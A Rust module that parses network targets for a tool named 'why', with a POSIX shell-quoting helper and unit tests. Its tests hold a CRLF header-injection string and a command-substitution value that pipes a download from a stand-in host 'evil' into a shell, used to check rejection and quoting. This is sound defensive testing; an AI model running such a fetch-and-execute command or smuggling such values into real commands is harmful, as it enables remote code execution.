//! What `why` accepts: a port, `host:port`, `[v6]:port` or a URL.

use std::fmt;
use std::net::IpAddr;

/// A parsed `why` target.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Target {
    /// As the user gave it.
    pub input: String,
    /// Host name or address literal (without brackets); `localhost` for a bare port.
    pub host: String,
    pub port: u16,
    /// `http` or `https` when a URL was given.
    pub scheme: Option<String>,
    /// Path and query of a URL, `/` otherwise.
    pub path: String,
}

impl Target {
    /// The host as an address, when it is a literal.
    pub fn literal(&self) -> Option<IpAddr> {
        self.host.parse().ok()
    }

    /// `host:port` with brackets around IPv6 literals, as a URL or `curl` wants it.
    pub fn authority(&self) -> String {
        match self.literal() {
            Some(IpAddr::V6(v6)) => format!("[{v6}]:{}", self.port),
            _ => format!("{}:{}", self.host, self.port),
        }
    }
}

/// Why a target was not understood; each message says what was expected.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub struct TargetError(pub String);

impl fmt::Display for TargetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

const EXPECTED: &str = "expected a port (5173), host:port (localhost:5173), [v6]:port ([::1]:5173) or a URL (http://localhost:5173/)";

/// A port number 1–65535.
pub fn parse_port(text: &str) -> Result<u16, TargetError> {
    match text.parse::<u32>() {
        Ok(port @ 1..=65535) => Ok(port as u16),
        Ok(_) => Err(TargetError(format!(
            "port {text} is out of range: ports go from 1 to 65535"
        ))),
        Err(_) => Err(TargetError(format!(
            "`{text}` is not a port number; {EXPECTED}"
        ))),
    }
}

pub fn parse(input: &str) -> Result<Target, TargetError> {
    let text = input.trim();
    if text.is_empty() {
        return Err(TargetError(format!("the target is empty; {EXPECTED}")));
    }
    let (scheme, rest) = match text.split_once("://") {
        Some((scheme, rest)) => (Some(scheme.to_ascii_lowercase()), rest),
        None => (None, text),
    };
    let (authority, path) = match rest.find(['/', '?', '#']) {
        Some(i) if scheme.is_some() => (&rest[..i], &rest[i..]),
        Some(_) => {
            return Err(TargetError(format!(
                "`{text}` has a path but no scheme; write it as a URL (http://{rest}) or drop the path"
            )));
        }
        None => (rest, ""),
    };
    let default_port = match scheme.as_deref() {
        None => None,
        Some("http" | "ws") => Some(80),
        Some("https" | "wss") => Some(443),
        Some(other) => {
            return Err(TargetError(format!(
                "unsupported scheme `{other}://`: only http, https, ws and wss URLs have a known port; \
                 give host:port instead"
            )));
        }
    };
    if authority.contains('@') {
        return Err(TargetError(format!(
            "`{text}` carries a user name; give the host without `user@`"
        )));
    }
    if scheme.is_none() && authority.bytes().all(|b| b.is_ascii_digit()) {
        return Ok(Target {
            input: input.to_owned(),
            host: "localhost".into(),
            port: parse_port(authority)?,
            scheme: None,
            path: "/".into(),
        });
    }
    let (host, port) = if let Some(rest) = authority.strip_prefix('[') {
        let (v6, after) = rest.split_once(']').ok_or_else(|| {
            TargetError(format!(
                "`{text}`: an IPv6 address opened with `[` needs its `]`"
            ))
        })?;
        if v6.parse::<std::net::Ipv6Addr>().is_err() {
            return Err(TargetError(format!("`{v6}` is not an IPv6 address")));
        }
        let port = match after.strip_prefix(':') {
            Some(port) => Some(port),
            None if after.is_empty() => None,
            None => return Err(TargetError(format!("`{text}`: expected `:port` after `]`"))),
        };
        (v6.to_owned(), port)
    } else if authority.matches(':').count() > 1 {
        return Err(TargetError(format!(
            "`{text}` looks like an IPv6 address without brackets; write it as [address]:port, e.g. [::1]:5173"
        )));
    } else {
        match authority.split_once(':') {
            Some((host, port)) => (host.to_owned(), Some(port)),
            None => (authority.to_owned(), None),
        }
    };
    if host.is_empty() {
        return Err(TargetError(format!("`{text}` has no host; {EXPECTED}")));
    }
    if host.parse::<IpAddr>().is_err()
        && !host.split('.').all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        })
    {
        return Err(TargetError(format!(
            "`{host}` is not a host name or an IP address"
        )));
    }
    // The path goes into an HTTP request line and into suggested commands: only the characters
    // RFC 3986 allows in a URL, so no whitespace, control characters, quotes or backslashes.
    if let Some(bad) = path.chars().find(|c| !is_url_char(*c)) {
        return Err(TargetError(format!(
            "`{text}`: the URL contains {bad:?}, which a URL may not; percent-encode it (e.g. %20 for a space)"
        )));
    }
    let port = match (port, default_port) {
        (Some(port), _) => parse_port(port)?,
        (None, Some(port)) => port,
        (None, None) => {
            return Err(TargetError(format!("`{text}` has no port; {EXPECTED}")));
        }
    };
    Ok(Target {
        input: input.to_owned(),
        host: host.to_ascii_lowercase(),
        port,
        scheme,
        path: if path.is_empty() || !path.starts_with('/') {
            format!("/{path}")
        } else {
            path.to_owned()
        },
    })
}

/// Characters RFC 3986 allows in a URL (unreserved, reserved, and `%` of escapes).
/// A path safe for an HTTP request line and a suggested command: `/` first, then only the
/// characters RFC 3986 allows in a URL.
pub fn is_safe_path(path: &str) -> bool {
    path.starts_with('/') && path.chars().all(is_url_char)
}

fn is_url_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&'()*+,;=%".contains(c)
}

/// Quotes a word for a POSIX shell when it needs it, so a suggested command can be pasted as is:
/// `'…'` around anything but plain characters, with `'` written as `'\''`.
pub fn shell_quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._/:@%+=,".contains(c));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn ok(input: &str, host: &str, port: u16, path: &str) {
        let t = parse(input).unwrap_or_else(|e| panic!("{input}: {e}"));
        assert_eq!(
            (t.host.as_str(), t.port, t.path.as_str()),
            (host, port, path),
            "{input}"
        );
    }

    #[track_caller]
    fn err(input: &str, says: &str) {
        let e = parse(input).expect_err(input).0;
        assert!(e.contains(says), "{input}: {e}");
    }

    #[test]
    fn targets_people_type_are_understood() {
        ok("5173", "localhost", 5173, "/");
        ok("localhost:5173", "localhost", 5173, "/");
        ok("127.0.0.1:8080", "127.0.0.1", 8080, "/");
        ok("[::1]:3000", "::1", 3000, "/");
        ok("http://localhost:5173/", "localhost", 5173, "/");
        ok(
            "http://LocalHost:5173/app?x=1",
            "localhost",
            5173,
            "/app?x=1",
        );
        ok("https://example.test", "example.test", 443, "/");
        ok("http://[::1]/", "::1", 80, "/");
        ok("ws://127.0.0.1:9229/abc", "127.0.0.1", 9229, "/abc");
        assert_eq!(parse("[::1]:3000").unwrap().authority(), "[::1]:3000");
    }

    #[test]
    fn bad_targets_say_what_was_expected() {
        err("0", "out of range");
        err("65536", "out of range");
        err("localhost:99999", "out of range");
        err("localhost:http", "not a port number");
        err("::1:8080", "without brackets");
        err("[::1:8080", "needs its `]`");
        err("[zz]:80", "not an IPv6 address");
        err("localhost", "has no port");
        err("", "empty");
        err("ftp://host/", "unsupported scheme");
        err("http://user@localhost:80/", "user name");
        err("localhost:80/path", "no scheme");
        err("bad host!:80", "not a host name");
        err(":80", "no host");
        err("http://localhost:80/a b", "percent-encode");
        err("http://localhost:80/\r\nX-Injected: 1", "percent-encode");
        err("http://localhost:80/\"x", "percent-encode");
    }

    #[test]
    fn suggested_commands_quote_what_the_shell_would_read() {
        assert_eq!(
            shell_quote("http://127.0.0.1:5173/"),
            "http://127.0.0.1:5173/"
        );
        assert_eq!(shell_quote("http://[::1]:80/"), "'http://[::1]:80/'");
        assert_eq!(
            shell_quote("http://h:1/$(curl evil|sh)"),
            "'http://h:1/$(curl evil|sh)'"
        );
        assert_eq!(shell_quote("http://h:1/?a=1&b=2"), "'http://h:1/?a=1&b=2'");
        assert_eq!(shell_quote("http://h:1/it's"), r"'http://h:1/it'\''s'");
    }
}
